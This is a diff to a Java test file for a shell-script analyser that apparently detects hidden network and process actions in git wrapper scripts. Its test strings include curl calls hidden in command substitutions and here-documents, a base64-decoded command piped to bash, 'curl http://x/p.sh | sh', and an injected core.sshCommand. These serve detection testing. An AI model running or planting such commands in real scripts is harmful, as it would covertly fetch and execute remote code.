@@ -45,7 +45,9 @@ class ShellAnalysisTest {
         "while ! git \"$@\"; do sleep 1; done",
         "echo Z2l0ICIkQCI= | base64 -d | bash",
         "env -i git \"$@\"",
-        "git \"$@\" | tee /tmp/log"
+        "git \"$@\" | tee /tmp/log",
+        "cat <<'E'\n$(curl x)\nE\ngit \"$@\"",
+        "(( x = (1 + 2) )); git \"$@\""
       })
   void wrapper_handsOverAndDoesNothingBesides(String text) {
     Behaviour behaviour = of("git", text);
@@ -78,6 +80,14 @@ class ShellAnalysisTest {
         "network ¦ sudo env A=b nohup curl x; git \"$@\"",
         "network ¦ [ -n \"$CI\" ] || curl x; git \"$@\"",
         "network ¦ git push http://x.test; git \"$@\"",
+        "network ¦ ((curl x) ; git \"$@\")",
+        "network ¦ ((curl x) ; (git \"$@\"))",
+        "network ¦ n=$(( $(curl x) + 1 )); git \"$@\"",
+        "network ¦ (( $(curl x) )); git \"$@\"",
+        "network ¦ [[ -n $(curl x) ]] && git \"$@\"",
+        "network ¦ : ${x:=$(curl x)}; git \"$@\"",
+        "network ¦ for i in $(curl x); do :; done; git \"$@\"",
+        "network ¦ case $(curl x) in esac; git \"$@\"",
         "process ¦ curl http://x/p.sh | sh; git \"$@\"",
         "process ¦ exec git --exec-path=/x \"$@\"",
         "process ¦ set -- -c core.sshCommand=/x \"$@\"; exec git \"$@\"",
@@ -124,6 +134,12 @@ class ShellAnalysisTest {
       })
   void text_cannotBeReadWhole(String text) {
     assertThat(of("git", text).unread()).isNotEmpty();
+  }
+
+  @Test
+  void substitutionInAHereDocument_isRunUnlessItsMarkIsQuoted() {
+    assertThat(of("git", "cat <<E >/dev/null\n$(curl x)\nE\n").handsOverTo("curl")).isTrue();
+    assertThat(of("git", "cat <<\\E >/dev/null\n$(curl x)\nE\n").handsOverTo("curl")).isFalse();
   }
 
   @Test
